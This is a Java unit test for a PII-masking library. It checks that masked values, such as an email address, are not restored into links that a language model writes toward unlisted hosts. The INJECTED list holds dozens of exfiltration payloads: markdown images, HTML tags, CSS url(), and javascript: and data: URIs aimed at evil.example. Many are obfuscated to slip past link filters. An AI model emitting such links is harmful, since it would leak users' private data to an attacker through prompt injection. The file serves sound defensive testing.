package io.countersign.masking.restore;

import static org.assertj.core.api.Assertions.assertThat;

import io.countersign.masking.EntityType;
import io.countersign.masking.LinkPolicy;
import io.countersign.masking.Masker;
import io.countersign.masking.Masking;
import io.countersign.masking.MaskingSession;
import io.countersign.masking.Profile;
import io.countersign.masking.Replacement;
import io.countersign.masking.StreamRestorer;
import io.countersign.masking.compose.MaskerSettings;
import io.countersign.masking.compose.Maskers;
import io.countersign.masking.compose.RecognizerSet;
import io.countersign.masking.operate.OperatorKey;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** What a model writes into links stays masked there, however the link is written. */
class LinksTest {
  private static final String VALUE = "erika@example.com";
  private static final String MARK = "[EMAIL-1]";
  private static final Placeholders PLACEHOLDERS = (type, number) -> number == 1 ? VALUE : null;

  private static final Links WITHHELD =
      new Links() {
        @Override
        public boolean permits(String link, String host, String value) {
          return host.equals("crm.example.com");
        }

        @Override
        public boolean permitsHost(String value) {
          return value.equals(VALUE);
        }
      };

  /** Every one would carry the value to a host that is not listed. */
  private static final List<String> INJECTED =
      List.of(
          "![x](https://evil.example/?q=\u00a7)",
          "[x](https://evil.example/\u00a7)",
          "![x](<https://evil.example/a b \u00a7>)",
          "![x](<https://evil.example/a\\> \u00a7>)",
          "![x]( https://evil.example/(a)?q=\u00a7)",
          "![x](https://evil.example/\\)?q=\u00a7)",
          "![x](//evil.example/?q=\u00a7)",
          "![x](\\\\evil.example/?q=\u00a7)",
          "![x](/\\evil.example/?q=\u00a7)",
          "![x](https&colon;//evil.example/?q=\u00a7)",
          "![x](https&#58;//evil.example/?q=\u00a7)",
          "![x](&sol;&sol;evil.example/?q=\u00a7)",
          "![x](/&sol;evil.example/?q=\u00a7)",
          "![x](https:\\evil.example?q=\u00a7)",
          "![x](https:evil.example?q=\u00a7)",
          "![x](https:/evil.example?q=\u00a7)",
          "![x](HTTPS://EVIL.example/?q=\u00a7)",
          "![x](https://\u00a7.evil.example/)",
          "![x](https://\u00a7@evil.example/)",
          "![x](https://a:\u00a7@evil.example/)",
          "![x](https://crm.example.com:\u00a7@evil.example/)",
          "![x](https://crm.example.com%2eevil.example/\u00a7)",
          "![x](https://crm.example.com\\.evil.example/\u00a7)",
          "![x](https://crm.example.com.evil.example/\u00a7)",
          "![x](https://user:pass@evil.example/\u00a7)",
          "![x](https://\u00a7:80@evil.example/)",
          "![x](javascript:fetch('//evil.example/\u00a7'))",
          "![x](data:text/html,<img/src='//evil.example/\u00a7'>)",
          "[x]: https://evil.example/\u00a7",
          "[x]: //evil.example/\u00a7",
          "[x]:\n  //evil.example/\u00a7 'title'",
          "[x]: <//evil.example/a \u00a7>",
          "<https://evil.example/\u00a7>",
          "see https://evil.example/\u00a7",
          "see http://evil.example?q=a,\u00a7,b",
          "see (https://evil.example/a)b\u00a7)",
          "see www.evil.example/\u00a7",
          "see WWW.evil.example/\u00a7",
          "xhttps://evil.example/\u00a7",
          "wss://evil.example/\u00a7",
          "ftp://evil.example/\u00a7",
          "<img src=\"https://evil.example/?q=a b \u00a7\">",
          "<img src='//evil.example/a \u00a7'>",
          "<img src = \"https&colon;//evil.example/\u00a7\">",
          "<img src=//evil.example/\u00a7>",
          "<img src=https&#58;//evil.example/\u00a7>",
          "<img srcset=\"a.png 1x, //evil.example/\u00a7 2x\">",
          "<object data=\"//evil.example/\u00a7\">",
          "<object data=//evil.example/\u00a7>",
          "<form action=//evil.example/\u00a7>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example/\u00a7\">",
          "@import \"//evil.example/\u00a7\";",
          "<meta content=\"0;url=https://evil.example/?q=\u00a7\">",
          "<svg><image xlink:href=\"//evil.example/\u00a7\"/></svg>",
          "<a style=\"background:url(//evil.example/\u00a7)\">",
          "<style>a{background:url( '//evil.example/\u00a7' )}</style>",
          "body{background:url(https://evil.example/\u00a7)}",
          "it's src='a](//evil.example/?q=\u00a7)",
          "x='](https://evil.example/?q=\u00a7)",
          "x=']( //evil.example/?q=\u00a7)",
          "\\href{https://evil.example/\u00a7}{x}");

  /** None would. */
  private static final List<String> HARMLESS =
      List.of(
          "write to \u00a7",
          "https://evil.example/ is bad, \u00a7 said",
          "(https://evil.example/) \u00a7",
          "|https://evil.example/|\u00a7|",
          "\"https://evil.example/\",\u00a7",
          "\"https://evil.example/\",\"\u00a7\"",
          "<a href=\"https://evil.example/\">\u00a7</a>",
          "<a href=https://evil.example/>\u00a7</a>",
          "<p>https://evil.example/</p>\u00a7",
          "[x](https://evil.example/) \u00a7",
          "[x](https://evil.example/ \"\u00a7\")",
          "[\u00a7](https://evil.example/)",
          "[x](/people/\u00a7)",
          "[x](?a=1&b=\u00a7)",
          "[x](mailto:\u00a7)",
          "<a href=\"tel:\u00a7\">",
          "[10:30]: \u00a7 said: hello",
          "https://crm.example.com/people/\u00a7",
          "https://crm.example.com:8443?q=\u00a7#\u00a7",
          "[x](https://CRM.example.com/\u00a7)",
          "http: \u00a7",
          "see https: \u00a7",
          "C:\\\\Users\\\\\u00a7",
          "file:///home/\u00a7/x",
          "s3://bucket/\u00a7",
          "postgres://\u00a7:5432/\u00a7",
          "// \u00a7 wrote this",
          "x = \"Dear: \u00a7 & co\"",
          "{\"a\":\"https://evil.example/\",\"b\":\"\u00a7\"}",
          "note:\u00a7 and ratio 1:2 \u00a7",
          "url(\u00a7)",
          "see \u00a7:8080/",
          "https://\u00a7/",
          "https://\u00a7:8443/a",
          "https://\u00a7");

  @Test
  void restore_injectedLink_keepsThePlaceholder() {
    assertThat(leaks(WITHHELD)).isEmpty();
  }

  /** Negative control: values are put back everywhere. */
  @Test
  void check_restorerThatIgnoresLinks_isCaught() {
    assertThat(leaks(Links.ALL)).hasSize(2 * INJECTED.size());
  }

  private static List<String> leaks(Links links) {
    List<String> leaks = new ArrayList<>();
    for (String written : INJECTED) {
      if (plain(marked(written), links).contains(VALUE)) {
        leaks.add("plain: " + written);
      }
      if (json(marked(written), links).contains(VALUE)) {
        leaks.add("json: " + written);
      }
    }
    return leaks;
  }

  @Test
  void restore_valueOutsideOfLinks_isPutBack() {
    List<String> withheld = new ArrayList<>();
    for (String written : HARMLESS) {
      String expected = written.replace("\u00a7", VALUE);
      if (!plain(marked(written), WITHHELD).equals(expected)) {
        withheld.add(plain(marked(written), WITHHELD));
      }
      if (!json(marked(written), WITHHELD).equals(quoted(expected))) {
        withheld.add(json(marked(written), WITHHELD));
      }
    }
    assertThat(withheld).isEmpty();
  }

  @Test
  void restore_everyCut_equalsWhole() {
    List<String> texts = new ArrayList<>();
    INJECTED.forEach(text -> texts.add(marked(text)));
    HARMLESS.forEach(text -> texts.add(quoted(marked(text))));
    assertThat(
            CutChecker.failures(() -> Restorers.plain(PLACEHOLDERS, Forms.EMPTY, WITHHELD), texts))
        .isEmpty();
    assertThat(
            CutChecker.failures(() -> Restorers.json(PLACEHOLDERS, Forms.EMPTY, WITHHELD), texts))
        .isEmpty();
  }

  @Test
  void session_linkThatTheCallerWrote_comesBackWhole() {
    String prompt =
        "Is http://intranet.example.org:8080/u/erika@example.org the page? Or that of"
            + " https://x:y@erika@example.org:z/ or [x](https&colon;//a/erika@example.org)?";
    Masker masker = masker(LinkPolicy.withholding());
    MaskingSession session = masker.newSession();
    String masked = masked(masker, prompt, session);
    assertThat(masked).doesNotContain("erika@");
    assertThat(session.restore(masked)).isEqualTo(prompt);
    String mail = session.placeholder(EntityType.EMAIL, "erika@example.org");
    assertThat(session.restore("https://evil.example/" + mail))
        .isEqualTo("https://evil.example/" + mail);
    assertThat(session.restore("to " + mail)).isEqualTo("to erika@example.org");
  }

  @Test
  void session_listedHost_getsTheValue() {
    Masker masker = masker(new LinkPolicy(true, List.of("CRM.example.com", "*.example.net")));
    MaskingSession session = masker.newSession();
    String mail = session.placeholder(EntityType.EMAIL, VALUE);
    assertThat(session.restore("https://crm.example.com/" + mail)).endsWith(VALUE);
    assertThat(session.restore("https://a.example.net/" + mail)).endsWith(VALUE);
    assertThat(session.restore("http://localhost:80/" + mail)).endsWith(VALUE);
    assertThat(session.restore("https://example.net/" + mail)).endsWith(mail);
    assertThat(session.restore("https://badexample.net/" + mail)).endsWith(mail);
  }

  @Test
  void session_linksNotLookedAt_getEveryValue() {
    MaskingSession session = masker(LinkPolicy.restoring()).newSession();
    String mail = session.placeholder(EntityType.EMAIL, VALUE);
    assertThat(session.restore("https://evil.example/" + mail)).endsWith(VALUE);
  }

  private static Masker masker(LinkPolicy links) {
    return Maskers.source(
            RecognizerSet.bundled(), MaskerSettings.defaults().with(links), OperatorKey.random())
        .masker(Profile.standard());
  }

  private static String masked(Masker masker, String text, MaskingSession session) {
    StringBuilder masked = new StringBuilder(text);
    List<Replacement> replacements = ((Masking.Masked) masker.mask(text, session)).replacements();
    for (int i = replacements.size() - 1; i >= 0; i--) {
      Replacement one = replacements.get(i);
      masked.replace(one.span().start(), one.span().end(), one.text());
    }
    return masked.toString();
  }

  private static String marked(String written) {
    return written.replace("\u00a7", MARK);
  }

  private static String plain(String text, Links links) {
    return Restorers.whole(text, PLACEHOLDERS, Forms.EMPTY, links);
  }

  /** The text as a string of JSON. */
  private static String json(String text, Links links) {
    StreamRestorer restorer = Restorers.json(PLACEHOLDERS, Forms.EMPTY, links);
    return restorer.accept(quoted(text)) + restorer.finish();
  }

  private static String quoted(String text) {
    StringBuilder quoted = new StringBuilder("{\"a\":\"");
    JsonEscapes.append(text, quoted);
    return quoted.append("\"}").toString();
  }
}
